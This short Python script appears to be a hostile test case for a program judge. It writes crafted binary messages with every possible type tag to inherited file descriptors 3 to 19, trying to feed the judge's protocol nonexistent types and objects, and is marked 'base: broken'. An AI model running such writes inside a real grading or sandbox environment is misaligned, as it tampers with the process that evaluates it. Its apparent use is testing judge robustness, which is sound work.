"""Tell the judge of types that do not exist, and of objects that it has not got."""
# base: broken
import os
import struct

for number in range(3, 20):
    for tag in range(256):
        try:
            os.write(number, struct.pack("<II", 6, 1) + bytes([1, 9, tag, 255, 255, 255]))
        except OSError:
            break
